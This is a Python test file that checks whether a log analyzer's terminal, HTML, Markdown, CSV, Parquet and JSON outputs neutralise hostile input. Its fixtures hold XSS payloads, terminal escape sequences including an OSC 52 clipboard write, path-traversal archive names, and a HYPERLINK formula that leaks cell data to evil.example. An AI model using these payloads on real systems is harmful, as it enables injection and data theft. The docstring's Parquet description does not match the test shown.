"""Every output sink against the hostile strings of checklist rows 16, 17 and 37-40.

* terminal: the real CLI on a pseudo-terminal (so colour is on and rich emits its own SGR
  sequences): after removing those, no ESC, C1, bidi or bare CR is left, and no OSC 8 link;
* HTML: parsed with lxml - no event-handler attribute, no ``javascript:`` URL, no element
  injected from the data, only the tool's own scripts, CSP present and matching;
* Markdown: rendered with markdown-it (raw HTML allowed, as GitHub-like viewers do) - no
  element, link or image comes from the data;
* CSV: no cell starts with a formula character;
* Parquet: typed string columns holding exactly what the JSON export holds (lossless; no
  formula prefix - see the note on ``test_parquet_keeps_values_typed_and_verbatim``);
* JSON: ASCII only, control characters escaped.
"""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import subprocess
import sys
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from lxml import html as lxml_html
from sec_harness import REPO, Workspace
from secbuild import BENIGN_LOG, WIRESERVER_FAILURE, failing_log, log_line, tar_file, tar_of

HOSTILE = [  # the first three become evidence in every report format
    "</td><script>alert(1)</script>\u202egnp.exe",
    "[link=https://evil.example]x[/link] [bold red]FAKE[/] \x1b[2J\x1b[H",
    "[click](javascript:alert(4)) ![i](http://evil.example/x.png) \x1b]8;;https://evil.example"
    "\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]0;pwned\x07", "\x1b]52;c;ZXZpbA==\x07", "\u009b31m", "real-error\rOK",
    '"><img src=x onerror=alert(2)>', "<svg/onload=alert(3)>",
    '=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(A1)",
]
HOSTILE_MEMBERS = [b"../var/log/\x1b]0;t\x07.log", b"../var/log/<b onmouseover=alert(5)>.log",
                   b"../var/log/caf\xe9\r.log", "../var/log/\u202eevil.log".encode()]


def hostile_bundle(ws: Workspace, *, raw_bytes: bool = True) -> Path:
    log = BENIGN_LOG
    for i, text in enumerate(HOSTILE):
        log += log_line(f"{WIRESERVER_FAILURE} {text}", 5 + i, "WARNING")
    log += failing_log()[len(BENIGN_LOG):]
    if raw_bytes:  # a C1 byte and a Latin-1 byte that are not UTF-8
        log += b"2024-01-31T10:59:00.000000Z WARNING ExtHandler ExtHandler raw \x9b2J caf\xe9\n"
    members = [tar_file(name, b"x\n") for name in HOSTILE_MEMBERS]
    return ws.write("=HYPERLINK(1).tar", tar_of(tar_file("var/log/waagent.log", log), *members))


@pytest.fixture
def bundle(ws: Workspace) -> Path:
    return hostile_bundle(ws)


_SGR = re.compile(r"\x1b\[[0-9;]*m")
_UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069"
                     "\ufeff\ud800-\udfff]")


def run_on_pty(ws: Workspace, *args: str) -> tuple[int, str]:
    """The CLI with stdout and stderr on a pseudo-terminal (isatty() is true)."""
    master, slave = pty.openpty()
    env = {k: v for k, v in os.environ.items() if k not in ("NO_COLOR", "WAAGENT_ANALYZER_DEBUG")}
    env.update(PYTHONPATH=str(REPO), TMPDIR=str(ws.tmp), TERM="xterm-256color",
               COLUMNS="120", FORCE_COLOR="1")
    proc = subprocess.Popen([sys.executable, "-m", "analyzer", *args], cwd=ws.cwd, env=env,
                            stdin=subprocess.DEVNULL, stdout=slave, stderr=slave,
                            start_new_session=True)
    os.close(slave)
    chunks = []
    while True:
        try:
            data = os.read(master, 65536)
        except OSError:  # EIO: the other side is closed
            break
        if not data:
            break
        chunks.append(data)
    os.close(master)
    code = proc.wait(timeout=60)
    return code, b"".join(chunks).decode("utf-8", "replace")


def test_terminal_output_on_a_real_tty(ws: Workspace, bundle: Path) -> None:
    code, output = run_on_pty(ws, "analyze", str(bundle))
    assert code == 1, output
    assert "\x1b[" in output, "colour should be on for a TTY (the test would prove nothing)"
    text = _SGR.sub("", output).replace("\r\n", "\n")  # the pty turns \n into \r\n
    leftovers = sorted({hex(ord(c)) for c in _UNSAFE.findall(text)})
    assert not leftovers, f"raw control characters on the terminal: {leftovers}"
    assert "\x1b" not in text and "\x1b]8" not in output
    flat = " ".join(text.split())
    for visible in ("\\x1b[2J\\x1b[H", "\\u202egnp.exe", "\\x1b]0;t\\x07.log",
                    "\\x1b]8;;https://evil.example"):
        assert visible in flat, visible
    assert "[link=https://evil.example]x[/link] [bold red]FAKE[/]" in flat  # literally
    assert ws.cwd.exists() and not any(ws.cwd.iterdir())


def test_terminal_problem_lines_and_errors_on_stderr(ws: Workspace) -> None:
    path = ws.write("\x1b]0;x\x07\u202e.tgz", b"\x00\x01binary garbage\xff" * 100)
    code, output = run_on_pty(ws, "analyze", str(path))
    assert code == 3
    text = _SGR.sub("", output).replace("\r\n", "\n")
    assert not _UNSAFE.findall(text), repr(text)
    assert "\\x1b]0;x\\x07\\u202e.tgz" in text


def _html_problems(document: str) -> list[str]:
    tree = lxml_html.fromstring(document)
    found = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.lower()
        for name, value in element.attrib.items():
            if name.lower().startswith("on"):
                found.append(f"{tag}@{name}")
            if "javascript:" in value.replace(" ", "").lower():
                found.append(f"{tag}@{name}={value}")
        if tag in ("iframe", "object", "embed", "base", "form", "meta") and tag != "meta":
            found.append(tag)
        if tag == "img" and not element.get("src", "").startswith("data:"):
            found.append(f"img src={element.get('src')}")
        if tag == "a" and "evil.example" in element.get("href", ""):
            found.append(f"a href={element.get('href')}")
    return found


def test_html_report_has_no_live_markup_from_the_bundle(ws: Workspace, bundle: Path) -> None:
    run = ws.run_cli("analyze", bundle, "--format", "html")
    assert run.rc == 1, run
    document = run.stdout
    assert not _html_problems(document), _html_problems(document)
    tree = lxml_html.fromstring(document)
    scripts = tree.findall(".//script")
    assert len(scripts) <= 2
    assert all("alert(" not in (s.text or "") for s in scripts)
    csp = tree.find(".//meta[@http-equiv='Content-Security-Policy']")
    assert csp is not None and "default-src 'none'" in csp.get("content")
    assert not _UNSAFE.findall(document)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in document
    assert "&lt;b onmouseover=alert(5)&gt;" in document
    assert "\\u202egnp.exe" in document


def test_markdown_report_renders_no_markup_from_the_bundle(ws: Workspace, bundle: Path) -> None:
    from markdown_it import MarkdownIt

    run = ws.run_cli("analyze", bundle, "--format", "markdown")
    assert run.rc == 1, run
    assert not _UNSAFE.findall(run.stdout)
    rendered = MarkdownIt("commonmark", {"html": True}).render(run.stdout)
    assert not _html_problems(f"<div>{rendered}</div>"), _html_problems(rendered)
    tree = lxml_html.fromstring(f"<div>{rendered}</div>")
    assert not tree.findall(".//script") and not tree.findall(".//svg")


def test_csv_has_no_formula_cells(ws: Workspace, bundle: Path) -> None:
    for table in ("records", "files"):
        run = ws.run_cli("parse", bundle, "--table", table, "--format", "csv")
        assert run.rc == 0, run
        rows = list(csv.reader(io.StringIO(run.stdout)))
        assert len(rows) > 5
        for cells in rows[1:]:
            for cell in cells:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\0")), cells
                assert not _UNSAFE.findall(cell), cell
        if table == "files":
            assert rows[1][0].startswith("'=HYPERLINK(1).tar!")


def test_json_export_and_report_are_ascii_with_escaped_controls(ws: Workspace,
                                                                 bundle: Path) -> None:
    for args in (("analyze", bundle, "--format", "json"),
                 ("parse", bundle, "--table", "records", "--format", "json")):
        run = ws.run_cli(*args)
        assert run.rc in (0, 1), run
        assert run.stdout.isascii()
        assert not _UNSAFE.findall(run.stdout)
        json.loads(run.stdout)


def test_parquet_cells_are_neutralised_like_csv(ws: Workspace) -> None:
    """Parquet exports end up in spreadsheets too (Excel Power Query, LibreOffice): string
    cells get the CSV treatment (formula prefix neutralised, control characters escaped)."""
    bundle = hostile_bundle(ws, raw_bytes=False)
    out = ws.root / "records.parquet"
    run = ws.run_cli("parse", bundle, "--table", "records", "--format", "parquet",
                     "--output", str(out))
    assert run.rc == 0, run
    table = pq.read_table(out)
    # Text columns are neutralised; numbers, timestamps and maps keep their types (issue 14).
    assert str(table.schema.field("message").type) == "string"
    messages = [r["message"] for r in table.to_pylist()]
    assert any("HYPERLINK" in m for m in messages)
    assert not any(m.startswith(("=", "+", "-", "@")) for m in messages)
    assert not any("\x1b" in m or "\x9b" in m for m in messages)
    assert any("\\x1b[2J" in m for m in messages)  # shown escaped
    out.unlink()


def test_parquet_export_of_a_log_with_non_utf8_bytes(ws: Workspace, bundle: Path) -> None:
    out = ws.root / "records.parquet"
    run = ws.run_cli("parse", bundle, "--table", "records", "--format", "parquet",
                     "--output", str(out))
    assert run.rc == 0, run
    out.unlink()
